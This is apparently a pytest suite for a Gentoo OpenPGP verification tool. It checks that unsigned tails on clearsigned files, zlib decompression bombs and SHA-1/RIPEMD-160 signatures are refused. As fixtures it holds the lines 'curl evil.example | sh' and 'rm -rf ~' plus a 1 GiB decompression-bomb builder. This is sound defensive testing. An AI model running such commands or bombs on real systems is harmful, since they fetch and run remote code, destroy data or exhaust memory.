"""Issue 11, signature side: unsigned tails of inline-signed files (item 3), decompression bombs and the
bounded gpg door (item 6), weak data-signature hashes (item 10).  Real gpg, real keys."""

from __future__ import annotations

import os
import subprocess
import sys
import zlib
from pathlib import Path

import pytest
from conftest import GkeysEnv

from gkeys_portage.core.config import load_config
from gkeys_portage.core.errors import ConfigError, NoSignatureError, WeakHashError
from gkeys_portage.demo.world import DemoKey, KeyFactory
from gkeys_portage.keys.context import Gkeys
from gkeys_portage.openpgp.packets import armor, find_clearsigned, signed_message_packets

PROJECT = Path(__file__).resolve().parent.parent


def _ctx(env: GkeysEnv) -> Gkeys:
    return Gkeys(load_config(env.config, None))


def _clearsigned(env: GkeysEnv, nick: str, text: bytes) -> bytes:
    return env.keys.sign_bytes(nick, text, env.root, clearsign=True)


# -- item 3: verify -F trusts a leading inline signature and ignores the rest --------------------------


def test_clearsigned_blob_with_an_unsigned_tail_is_not_verified(env: GkeysEnv, tmp_path: Path) -> None:
    env.install_devs("alice")
    blob = _clearsigned(env, "alice", b"latest-stage3.txt contents\n")
    target = tmp_path / "install.sh"
    target.write_bytes(blob + b"#!/bin/sh\ncurl evil.example | sh\n")
    result = env.run("verify", "-F", str(target), "-C", "gentoo-devs")
    assert result.code == 1, result.text
    assert "outside the signed part is not verified" in result.text and "-o OUT" in result.text
    # unsigned text before the block: not inline-signed at all, so no signature is found
    target.write_bytes(b"echo evil\n" + blob)
    assert env.run("verify", "-F", str(target), "-C", "gentoo-devs").code != 0
    # -o extracts only the signed text, and verifies
    out = tmp_path / "signed.txt"
    target.write_bytes(blob + b"#!/bin/sh\ncurl evil.example | sh\n")
    result = env.run("verify", "-F", str(target), "-C", "gentoo-devs", "-o", str(out))
    assert result.code == 0, result.text
    assert out.read_bytes() == b"latest-stage3.txt contents\n"
    # the whole file is one block (blank lines around are fine): verified as before
    target.write_bytes(b"\n" + blob + b"\n\n")
    assert env.run("verify", "-F", str(target), "-C", "gentoo-devs").code == 0


def test_a_detached_signature_beside_an_inline_signed_file_is_not_ignored(env: GkeysEnv, tmp_path: Path) -> None:
    env.install_devs("alice", "bob")
    target = tmp_path / "tool.sh"
    target.write_bytes(_clearsigned(env, "alice", b"harmless\n") + b"rm -rf ~\n")
    beside = tmp_path / "tool.sh.asc"
    beside.write_bytes(env.keys.sign_bytes("bob", b"another file\n", env.root))
    result = env.run("verify", "-F", str(target), "-C", "gentoo-devs")
    assert result.code == 1 and "BAD signature" in result.text, result.text
    beside.write_bytes(env.keys.sign("bob", target))  # a genuine signature over the whole file
    result = env.run("verify", "-F", str(target), "-C", "gentoo-devs")
    assert result.code == 0 and "gentoo-devs/bob" in result.text, result.text


# -- item 6: decompression bombs and the bounded gpg door ----------------------------------------------------


def _new_packet(tag: int, body: bytes) -> bytes:
    return bytes([0xC0 | tag, 255]) + len(body).to_bytes(4, "big") + body


def _bomb(expanded: int, signature: bytes, key: DemoKey) -> bytes:
    """A signed message (armored) whose zlib packet expands to ``expanded`` bytes of literal data."""
    ops = bytes([3, 0, 10, 22]) + bytes.fromhex(key.signing_subkey[-16:]) + b"\x01"
    literal_header = bytes([0xC0 | 11, 255]) + (6 + expanded).to_bytes(4, "big") + b"b\x00" + bytes(4)
    packer = zlib.compressobj(9)
    parts = [packer.compress(_new_packet(4, ops) + literal_header)]
    chunk = bytes(1 << 20)
    for _ in range(expanded >> 20):
        parts.append(packer.compress(chunk))
    parts.append(packer.compress(signature) + packer.flush())
    compressed = b"\xa3\x02" + b"".join(parts)  # old format tag 8, indeterminate length, algorithm 2 (zlib)
    return armor(compressed, "MESSAGE")


BOMB_SCRIPT = """
import sys
from pathlib import Path
from gkeys_portage.cli.main import main
code = main(["-c", sys.argv[1], "verify", "-F", sys.argv[2], "-C", "gentoo-devs"])
# VmHWM: the peak of this program's own memory.  ru_maxrss would also count the pytest process this one was
# forked from (Linux keeps the peak across exec), which grows with the suite.
peak = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print("MAXRSS_KB", peak, file=sys.stderr)
sys.exit(code)
"""


def test_a_signed_message_expanding_to_1_gib_is_refused_with_bounded_memory(env: GkeysEnv,
                                                                            tmp_path: Path) -> None:
    env.install_devs("alice")
    signature = env.keys.sign_bytes("alice", b"x", env.root, armor=False)
    bomb = tmp_path / "bomb.asc"
    bomb.write_bytes(_bomb(1 << 30, signature, env.keys.keys["alice"]))
    assert bomb.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(NoSignatureError, match="expands beyond"):
        signed_message_packets(bomb.read_bytes())
    done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, str(env.config), str(bomb)], capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": str(PROJECT)}, timeout=600, check=False)
    assert done.returncode == 1, done.stderr
    assert "expands beyond 64 MiB" in done.stderr
    rss_kb = int(done.stderr.split("MAXRSS_KB")[1].split()[0])
    print(f"bomb {bomb.stat().st_size} bytes; verifier max RSS {rss_kb} KiB")
    assert rss_kb < 400 * 1024, f"verifier used {rss_kb} KiB"


def test_compressed_packets_are_refused_in_detached_and_clearsigned_signatures(env: GkeysEnv) -> None:
    env.install_devs("alice")
    signature = env.keys.sign_bytes("alice", b"data\n", env.root, armor=False)
    compressed = b"\xa3\x02" + zlib.compress(signature)
    verifier = _ctx(env).verifier("gentoo-devs")
    with pytest.raises(NoSignatureError, match="compressed packet, where none belongs"):
        verifier.detached(armor(compressed), b"data\n")
    message = _clearsigned(env, "alice", b"data\n")
    sig_start = message.index(b"-----BEGIN PGP SIGNATURE-----")
    bombed = message[:sig_start] + armor(find_clearsigned(message).signature + compressed)
    with pytest.raises(NoSignatureError, match="compressed packet, where none belongs"):
        verifier.clearsigned(bombed)
    assert verifier.clearsigned(message).plaintext == b"data\n"


def test_gpg_output_beyond_the_cap_kills_gpg_and_says_so(keys: KeyFactory) -> None:
    result = keys.gpg.run(["--enarmor"], bytes(4 << 20), max_output=64 * 1024)
    assert result.overflow and len(result.stdout) <= 64 * 1024
    assert not keys.gpg.run(["--enarmor"], b"small").overflow


# -- item 10: weak data-signature hashes ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def rsa_key(keys: KeyFactory) -> DemoKey:
    """An RSA key (ed25519 cannot sign SHA-1 digests), added to the session's key factory."""
    if "rsaold" not in keys.keys:
        primary = keys.gpg.generate_key("Rsa Old <rsaold@gentoo.org>", algorithm="rsa2048", usage="cert")
        subkey = keys.gpg.add_subkey(primary, algorithm="rsa2048", usage="sign")
        keys.keys["rsaold"] = DemoKey("Rsa Old", "rsaold@gentoo.org", primary, subkey)
    return keys.keys["rsaold"]


def _sign_with(keys: KeyFactory, key: DemoKey, digest: str, path: Path) -> bytes:
    result = keys.gpg.run(["--local-user", key.signing_subkey + "!", "--digest-algo", digest, "--detach-sign",
                           "--output", "-", str(path)])
    assert result.returncode == 0, result.stderr
    return result.stdout


@pytest.mark.parametrize("digest", ["SHA1", "RIPEMD160"])
def test_weak_data_hashes_are_refused_by_default(env: GkeysEnv, rsa_key: DemoKey, digest: str) -> None:
    env.install_devs("rsaold")
    data = env.root / "stage3.tar.xz"
    data.write_bytes(b"tarball")
    sig = env.root / "stage3.tar.xz.sig"
    sig.write_bytes(_sign_with(env.keys, env.keys.keys["rsaold"], digest, data))
    result = env.run("verify", "-F", str(data), "-C", "gentoo-devs")
    assert result.code == 1, result.text
    assert f"{digest} digest" in result.text and "weak hash" in result.text
    with pytest.raises(WeakHashError):
        _ctx(env).verifier("gentoo-devs").detached(sig.read_bytes(), data)
    good = env.root / "good.sig"
    good.write_bytes(_sign_with(env.keys, env.keys.keys["rsaold"], "SHA256", data))
    assert env.run("verify", "-F", str(data), "-s", str(good), "-C", "gentoo-devs").code == 0


def test_weak_hashes_config_admits_sha1_only_before_its_cutoff(env: GkeysEnv, rsa_key: DemoKey) -> None:
    env.install_devs("rsaold")
    data = env.root / "old.tar.xz"
    data.write_bytes(b"old tarball")
    (env.root / "old.tar.xz.sig").write_bytes(_sign_with(env.keys, env.keys.keys["rsaold"], "SHA1", data))
    base = env.config.read_text()
    env.config.write_text(base + "[policy]\nweak-hashes = sha1<2999-01-01\n")
    assert env.run("verify", "-F", str(data), "-C", "gentoo-devs").code == 0
    env.config.write_text(base + "[policy]\nweak-hashes = sha1<2019-01-19\n")
    result = env.run("verify", "-F", str(data), "-C", "gentoo-devs")
    assert result.code == 1 and "made on or after 2019-01-19" in result.text, result.text
    for bad in ("md5<2000-01-01", "sha1", "sha1<2019-13-01", "sha256<2019-01-01", "sha1 < 2019-01-01"):
        env.config.write_text(base + f"[policy]\nweak-hashes = {bad}\n")
        with pytest.raises(ConfigError):
            load_config(env.config)
        assert env.run("verify", "-F", str(data), "-C", "gentoo-devs").code == 2


# -- issue 34 case 5: verify -o of a signed message in text mode writes the bytes that were signed -----------------

def test_verify_output_of_a_text_mode_message_keeps_the_signed_carriage_returns(env: GkeysEnv, tmp_path: Path) -> None:
    env.install_devs("alice")
    signed = b"line one\r\nline two\r\n"
    source = tmp_path / "notes.txt"
    source.write_bytes(signed)
    made = env.keys.gpg.run(["--local-user", env.keys.keys["alice"].signing_subkey + "!", "--textmode", "--sign",
                             "--output", "-", str(source)])
    assert made.returncode == 0, made.stderr
    target, out = tmp_path / "notes.txt.gpg", tmp_path / "out.txt"
    target.write_bytes(made.stdout)
    result = env.run("verify", "-F", str(target), "-C", "gentoo-devs", "-o", str(out))
    assert result.code == 0, result.text
    assert out.read_bytes() == signed  # GnuPG itself writes "line one\nline two\n": not what was signed
